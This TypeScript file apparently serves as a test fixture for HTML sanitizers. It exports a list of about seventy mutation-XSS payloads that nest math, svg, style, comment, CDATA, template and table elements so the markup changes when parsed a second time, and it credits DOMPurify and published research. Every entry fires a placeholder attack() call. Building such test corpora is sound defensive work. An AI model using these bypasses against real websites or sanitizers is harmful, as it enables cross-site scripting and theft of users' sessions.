import type { Payload } from './payload.js';

/** What shows up when a text, or an attribute, is read as markup the second time. */
const attack = '<img src=x onerror=attack()>';
const hidden = '&lt;img src=x onerror=attack()&gt;';

/**
 * Markup that is another tree when it is written out and read again, and so has passed a sanitizer
 * that judged the first tree. After the idea of what was published about DOMPurify: its own tests
 * (https://github.com/cure53/DOMPurify), "mXSS Attacks" of Heiderich and others (2013), and the reports
 * of Michał Bentkowski (2019, 2020), Gareth Heyes (2020), and Kévin Mizu (2024).
 */
export const mutation: readonly Payload[] = [
  {
    name: 'style in a drawing in a formula',
    html: `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;${hidden}">`,
  },
  {
    name: 'form in a form in a formula',
    html: `<form><math><mtext></form><form><mglyph><style></math>${attack}`,
  },
  {
    name: 'form in a form in a drawing',
    html: `<form><svg><title></form><form><style></svg>${attack}`,
  },
  {
    name: 'end of a form across a block',
    html: `<form id=a><div></form><form id=b><input name=a>${attack}`,
  },
  { name: 'paragraph in a drawing', html: `<svg></p><style><a id="</style>${attack}">` },
  { name: 'line break in a drawing', html: `<svg></br><style><a title="</style>${attack}">` },
  { name: 'paragraph in a formula', html: `<math></p><style><!--</style>${attack}--></style>` },
  {
    name: 'title of a drawing that ends within a style',
    html: `<svg><title><style><a title="</style></title>${attack}">`,
  },
  {
    name: 'description of a drawing with a paragraph',
    html: `<svg><desc><p><svg><style><a title="</style></desc>${attack}">`,
  },
  { name: 'style of a drawing as text', html: `<svg><style>${hidden}</style></svg>` },
  {
    name: 'style of a drawing that holds an element',
    html: `<svg><style><a title="</style>${attack}"></style></svg>`,
  },
  {
    name: 'style of a formula with a comment',
    html: `<math><annotation-xml encoding="text/html"><style><!--</style><a title="--&gt;${hidden}">`,
  },
  {
    name: 'annotation that is HTML by its encoding',
    html: `<math><annotation-xml encoding="text/html"><p title="</p>${attack}">a</p></annotation-xml></math>`,
  },
  {
    name: 'annotation that is XHTML by its encoding',
    html: `<math><annotation-xml encoding="APPLICATION/XHTML+XML"><svg><style></annotation-xml>${attack}</style>`,
  },
  {
    name: 'annotation without an encoding',
    html: `<math><annotation-xml><style>${attack}</style></annotation-xml></math>`,
  },
  {
    name: 'drawing in an annotation',
    html: `<math><annotation-xml><svg><foreignObject><math><mi><style></annotation-xml>${attack}</style>`,
  },
  {
    name: 'glyph outside of a text',
    html: `<math><mglyph><svg><mtext><style><path id="</style>${attack}">`,
  },
  { name: 'mark of malign alignment', html: `<math><mtext><malignmark><style></math>${attack}` },
  {
    name: 'glyph in a table in a text',
    html: `<math><mtext><table><mglyph><style><math><table id="</table>"><img src onerror=attack()">`,
  },
  {
    name: 'heading in a table in a text',
    html: `<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style>${attack}"></style></h1>`,
  },
  {
    name: 'list in a formula',
    html: `<math><mi><li><table><tr><td><ul><li><mglyph><style><!--</style><img title="--&gt;${hidden}">`,
  },
  {
    name: 'element before its table',
    html: `<table><a href="javascript:attack()">a<tr><td>b</table><table>${attack}<tr>`,
  },
  { name: 'style before its table', html: `<table><style><a title="</style>${attack}"></table>` },
  {
    name: 'caption of no table',
    html: `<svg><desc><table><caption><svg><style><a title="</style></caption>${attack}">`,
  },
  {
    name: 'table in a table',
    html: `<table><tr><td><table></td></tr>${attack}</table><table><colgroup><template>${attack}`,
  },
  {
    name: 'links within each other in a table',
    html: '<a href="https://news.example/"><table><a href="javascript:attack()">a</table></a>',
  },
  { name: 'headings within each other', html: `<h1><h2><h3><table><h4>${attack}</table></h1>` },
  {
    name: 'emphasis that goes on',
    html: `<b><i><a href="javascript:attack()"><p></b></i></a>${attack}</p>`,
  },
  { name: 'end of a comment in no time', html: `<!-->${attack}-->` },
  { name: 'end of a comment after a dash', html: `<!--->${attack}-->` },
  { name: 'end of a comment with an exclamation mark', html: `<!-- a --!>${attack}-->` },
  { name: 'comment within a comment', html: `<!-- <!-- --> --><!-- a <!--> ${attack} -->` },
  {
    name: 'comment that ends in an attribute',
    html: `<svg><p><style><!--</style></p><a title="--><img src=x onerror=attack()>">`,
  },
  {
    name: 'declaration that is a comment',
    html: `<!doctype --><!x "--><img src=x onerror=attack()>"><?x --><?x ?>${attack}?>`,
  },
  {
    name: 'end of an attribute by a title',
    html: `<p title="--&gt;${hidden}">a</p><p title='"&gt;${hidden}'>b</p>`,
  },
  { name: 'CDATA that ends early', html: `<svg><![CDATA[</svg>${attack}]]>` },
  {
    name: 'CDATA in a style of a drawing',
    html: `<svg><style><![CDATA[</style>${attack}]]></style></svg>`,
  },
  {
    name: 'CDATA in a formula',
    html: `<math><mtext><![CDATA[${attack}]]></mtext><mi><![CDATA[</mi>${attack}]]>`,
  },
  {
    name: 'page without scripts, with a comment',
    html: `<noscript><!-- </noscript>${attack} --></noscript>`,
  },
  {
    name: 'page without scripts, with a style',
    html: `<noscript><style></noscript>${attack}</style>`,
  },
  {
    name: 'page without scripts in a drawing',
    html: `<svg><noscript><p title="</noscript>${attack}"></noscript></svg>`,
  },
  {
    name: 'page without frames',
    html: `<noframes><p title="</noframes>${attack}"></noframes><noembed><p title="</noembed>${attack}"></noembed>`,
  },
  { name: 'frame that holds text', html: `<iframe><p title="</iframe>${attack}"></iframe>` },
  {
    name: 'example that is no text',
    html: `<xmp><p title="</xmp>${attack}"></xmp><svg><xmp><p title="</xmp>${attack}"></svg>`,
  },
  { name: 'listing with references', html: `<listing>${hidden}</listing><pre>\n\n${hidden}</pre>` },
  { name: 'text without an end', html: `<svg><plaintext><p title="</svg>${attack}"></plaintext>` },
  { name: 'all that follows is text', html: `<plaintext>${attack}` },
  {
    name: 'text field in a drawing',
    html: `<svg><textarea><p title="</textarea>${attack}"></svg>`,
  },
  {
    name: 'text field that ends in a comment',
    html: `<textarea>a</textarea><!--</textarea>${attack}-->`,
  },
  {
    name: 'choice that holds a style',
    html: `<select><style><a title="</style>${attack}"></select><select><template><style></select>${attack}`,
  },
  {
    name: 'choice in a formula',
    html: `<math><mtext><select><mglyph><style></select>${attack}</style>`,
  },
  {
    name: 'choice that ends by a field',
    html: `<select><option><script>attack()</script><input>${attack}<keygen>`,
  },
  {
    name: 'template in a drawing',
    html: `<svg><template><style><p title="</style></template>${attack}"></svg>`,
  },
  {
    name: 'template in a template',
    html: `<template><s><template><s>${attack}a</s></template></s></template>`,
  },
  {
    name: 'template that is a table row',
    html: `<template><tr><td><template><style></template>${attack}</style></td></tr></template>`,
  },
  {
    name: 'end of the body',
    html: `</body></html><p>a</p><!-- </body> -->${attack}<frameset onload=attack()>`,
  },
  {
    name: 'body in a body',
    html: `<p>a<body onload=attack() id=x><html onclick=attack() lang=en>b`,
  },
  {
    name: 'drawing that a heading ends',
    html: `<h1><svg><desc></h1><style><a title="</style>${attack}">`,
  },
  {
    name: 'element with the name of a drawing',
    html: `<svg><foreignobject><p><svg><style><foreignobject></foreignobject>${attack}`,
  },
  {
    name: 'formula in a drawing in a formula',
    html: `<math><mtext><svg><foreignObject><math><mtext><style></svg>${attack}</style>`,
  },
  { name: 'image of a drawing', html: `<svg><image><style></image>${attack}</style></svg>` },
  {
    name: 'font that leaves a drawing',
    html: `<svg><font color=x><style><a title="</style>${attack}"></font></svg>`,
  },
  { name: 'deep nesting', html: `${'<div>'.repeat(520)}<svg><style></svg>${attack}</style>` },
  {
    name: 'deep nesting of emphasis in paragraphs',
    html: `${'<p><b><i>'.repeat(60)}${attack}<table>${'<u>'.repeat(60)}${attack}`,
  },
  {
    name: 'deep nesting of formulas',
    html: `${'<math><mtext>'.repeat(130)}<mglyph><style></math>${attack}</style>`,
  },
  { name: 'attribute without an end', html: `<a title="a<p>b</p>${hidden}` },
  {
    name: 'attribute with a name of markup',
    html: `<p <img src=x onerror=attack()>a</p><p a"b'c<d=e onclick=attack()>b</p>`,
  },
  { name: 'element with a name of markup', html: `<x<img src=x onerror=attack()>a</x><p/<b>c</p>` },
  {
    name: 'ruby that is read otherwise',
    html: `<ruby><rb>a<rtc><style><rt></style>${attack}</ruby>`,
  },
  {
    name: 'command of a content system in a tag',
    html: `[x y="<a title='[/x]">${attack}'[/x]<p title="[embed]">a[/embed]</p>`,
  },
  {
    name: 'tags that a command takes apart',
    html: `&lt;im[x_y]g src=x onerror=attack()&gt;[embed]javascript:attack()[/embed]`,
  },
  {
    name: 'link of a command',
    html: `[embed]https://news.example/"onclick=attack()[/embed][embed]https://news.example/&lt;img[/embed]`,
  },
];
